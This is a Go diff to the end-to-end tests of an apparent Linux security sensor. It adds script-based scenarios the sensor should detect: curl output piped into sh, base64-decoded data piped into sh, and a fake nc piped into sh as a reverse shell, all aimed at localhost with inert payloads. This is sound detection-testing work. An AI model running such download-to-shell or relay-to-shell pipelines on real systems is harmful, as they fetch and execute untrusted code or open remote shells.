@@ -20,7 +20,11 @@ func init() {
 	scenarios = append(scenarios,
 		scenario{"library injection through LD_PRELOAD", scenarioPreload},
 		scenario{"download piped into a shell", scenarioDownloadPipe},
+		scenario{"download piped into a shell by a script, the shell first", scenarioDownloadPipeScript},
+		scenario{"download piped into a shell by a script, the download first", scenarioDownloadPipeScriptReaderLast},
 		scenario{"encoded payload decoded into a shell", scenarioDecodedPayload},
+		scenario{"encoded payload decoded into a shell by a script", scenarioDecodedPayloadScript},
+		scenario{"network relay piped into a shell by a script", scenarioRelayPipeShell},
 		scenario{"shell started with history disabled", scenarioHistoryOff},
 		scenario{"program masquerading as a kernel thread", scenarioMasquerade},
 		scenario{"cryptocurrency miner options", scenarioMiner},
@@ -43,6 +47,9 @@ func init() {
 		[]string{"bash", "-c", "echo > /dev/tcp/127.0.0.1/9 || true"},
 		// a marker file for find -newer, dated by hand
 		[]string{"sh", "-c", `f=/tmp/vigil-benign-marker-$$; touch -d "2 hours ago" "$f"; rm -f "$f"`},
+		// pipelines in a script, the readers taking data, not code, from the
+		// pipe: the sensor joins their ends, the signatures stay quiet
+		[]string{"sh", "-c", `d=$(mktemp -d); printf '%s\n' 'curl -fsS http://127.0.0.1:9/x | perl -ne print' 'echo aGVsbG8K | base64 -d | sh -c cat >/dev/null' 'echo aGVsbG8K | base64 -d | { sleep 0.2; exec cat; } >/dev/null' > "$d/s.sh"; sh "$d/s.sh"; rm -rf "$d"; true`},
 		// ldd runs the loader twice, to verify and to list: nothing is run
 		[]string{"sh", "-c", "! command -v ldd >/dev/null || ldd /bin/true >/dev/null"},
 	)
@@ -92,6 +99,45 @@ func scenarioPreload(t *testing.T, _ *e2eEnv) []expectation {
 func scenarioDownloadPipe(t *testing.T, _ *e2eEnv) []expectation {
 	// nothing listens there: the download fails, the command line is the behaviour
 	return shellScenario(t, "curl piped into sh", "download-piped-to-shell", "curl -fsS http://127.0.0.1:9/stage2.sh | sh")
+}
+
+// pipeScenario runs script as a file (sh FILE): its pipelines are on no
+// command line. The finding is on the exec of exe (comm), a child of that
+// sh, which names the pipe's other end: argument joined is other.
+func pipeScenario(t *testing.T, what, sigID, script, exe, comm, joined, other string) []expectation {
+	file := filepath.Join(t.TempDir(), "stage.sh")
+	if err := os.WriteFile(file, []byte(script+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	pid := runQuiet(t, exec.Command(resolved(t, "sh"), file))
+	return []expectation{{what: what, sigID: sigID, ppid: pid, exe: isExe(exe), exeDoc: exe, comm: comm,
+		event: "sched_process_exec", also: argIs(joined, other)}}
+}
+
+func scenarioDownloadPipeScript(t *testing.T, _ *e2eEnv) []expectation {
+	// the download starts last: its exec meets the shell already reading
+	return pipeScenario(t, "curl of a script piped into sh, sh first", "download-piped-to-shell",
+		"{ sleep 0.3; exec curl -fsS http://127.0.0.1:9/stage2.sh; } | sh", resolved(t, "curl"), "curl", "stdout_reader_comm", "sh")
+}
+
+func scenarioDownloadPipeScriptReaderLast(t *testing.T, _ *e2eEnv) []expectation {
+	// the shell starts last: its exec meets the download's
+	return pipeScenario(t, "curl of a script piped into sh, curl first", "download-piped-to-shell",
+		"curl -fsS http://127.0.0.1:9/stage2.sh | { sleep 0.3; exec sh; }", resolved(t, "sh"), "sh", "stdin_writer_comm", "curl")
+}
+
+func scenarioDecodedPayloadScript(t *testing.T, _ *e2eEnv) []expectation {
+	return pipeScenario(t, "base64 decoded into sh by a script", "decoded-payload-exec",
+		"echo dHJ1ZQo= | base64 -d | { sleep 0.3; exec sh; }", resolved(t, "sh"), "sh", "stdin_writer_comm", "base64")
+}
+
+func scenarioRelayPipeShell(t *testing.T, _ *e2eEnv) []expectation {
+	// a copy of cat named nc stands in for netcat (not installed here): it
+	// fails at once on its option, sh reads nothing
+	nc := filepath.Join(t.TempDir(), "nc")
+	copyFile(t, resolved(t, "cat"), nc, 0o755)
+	return pipeScenario(t, "nc piped into sh, sh first", "reverse-shell",
+		"{ sleep 0.3; exec "+nc+" --vigil-no-such-option 2>/dev/null; } | sh", nc, "nc", "stdout_reader_comm", "sh")
 }
 
 func scenarioDecodedPayload(t *testing.T, _ *e2eEnv) []expectation {
